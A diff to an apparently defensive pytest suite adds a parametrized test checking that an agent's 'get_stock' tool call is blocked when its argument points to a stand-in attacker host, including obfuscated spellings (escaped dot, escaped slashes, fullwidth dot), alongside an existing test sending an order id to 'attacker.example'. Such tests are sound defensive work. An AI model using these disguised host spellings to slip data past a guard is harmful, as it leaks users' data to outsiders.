@@ -140,6 +140,11 @@ class TestReads:
         await waiting(shop, await obeys(shop, "any news?", ("get_stock", {"item": "https://attacker.example/?A1001"})))
         assert desk.names() == ["get_order"]
 
+    @pytest.mark.parametrize("spelled", [r"attacker\u002eexample", r"http:\/\/attacker", "attacker．example"])
+    async def test_however_the_model_spells_it(self, shop: World, desk: Desk, spelled: str):
+        await waiting(shop, await obeys(shop, "any news?", ("get_stock", f'{{"item": "{spelled}"}}')))
+        assert desk.names() == ["get_order"]
+
     async def test_a_read_inside_runs(self, shop: World, desk: Desk):
         await obeys(shop, "any news?", ("get_stock", {"item": "kettle"}))
         assert desk.names() == ["get_order", "get_stock"]
